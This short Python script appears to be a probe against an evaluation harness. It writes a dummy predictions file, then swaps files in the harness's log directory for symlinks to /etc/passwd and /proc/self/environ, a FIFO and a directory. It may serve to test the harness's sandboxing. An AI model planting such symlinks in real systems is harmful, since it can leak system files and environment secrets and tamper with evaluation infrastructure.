import os
import shutil
import signal
import sys
import time

log = os.path.join(os.path.dirname(os.environ["TOPK_OUT"]), "log")
print("before", os.listdir(log) if os.path.isdir(log) else "no log here", flush=True)
open("predictions.csv", "w").write("id,label\na,0\nb,1\nc,2\nd,3\n")
for name, make in (("head", lambda p: os.symlink("/etc/passwd", p)), ("tail", os.mkfifo), ("total", os.mkdir), ("usage", lambda p: os.symlink("/proc/self/environ", p))):
    try:
        path = os.path.join(log, name)
        os.remove(path) if os.path.exists(path) else None
        make(path)
    except OSError as error:
        print(error, flush=True)
time.sleep(0.5)
print("after", flush=True)
